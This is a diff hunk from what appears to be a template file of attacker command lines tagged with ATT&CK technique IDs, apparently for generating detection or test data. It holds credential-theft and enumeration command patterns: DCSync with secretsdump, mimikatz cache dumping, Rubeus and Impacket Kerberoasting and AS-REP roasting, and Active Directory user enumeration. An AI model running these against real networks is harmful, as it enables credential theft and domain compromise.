@@ -79,7 +79,7 @@ dcsync-linux bash +T1003.006: «secretsdump.py¦impacket-secretsdump» -just-dc�
 cached-creds cmd +T1003.005: «mimikatz.exe¦‹dir›\‹name›.exe» «privilege::debug token::elevate ¦»"lsadump::cache" exit
 rubeus-roast cmd +T1558.003: «Rubeus.exe¦‹dir›\Rubeus.exe¦‹dir›\‹name›.exe» kerberoast «/outfile:‹file›¦/format:hashcat /nowrap¦/stats¦/user:‹user›»
 rubeus-asrep cmd +T1558.004: «Rubeus.exe¦‹dir›\‹name›.exe» asreproast «/format:hashcat¦/outfile:‹file›¦/nowrap»
-roast-ps powershell +T1558.003: «Invoke-Kerberoast -OutputFormat Hashcat | fl¦Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/‹server›.‹fqdn›:1433'»
+roast-ps powershell +T1558.003: «Invoke-Kerberoast -OutputFormat Hashcat | fl¦Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/‹host›.‹fqdn›:1433'»
 roast-linux bash +T1558.003: «GetUserSPNs.py¦impacket-GetUserSPNs» -request -dc-ip ‹ip› ‹fqdn›/‹user›:'‹pass›'
 domain-users cmd +T1087.002: «net user /domain¦net user ‹user› /domain¦dsquery user -limit 0¦dsquery * -filter "(objectClass=user)"¦adfind.exe -f "(objectcategory=person)"¦‹dir›\AdFind.exe -sc admincountdmp»
 domain-users-ps powershell +T1087.002: «Get-ADUser -Filter * -Properties *¦Get-DomainUser -SPN¦Get-NetUser | select samaccountname¦([adsisearcher]'(objectCategory=user)').FindAll()¦Get-DomainUser -AdminCount»
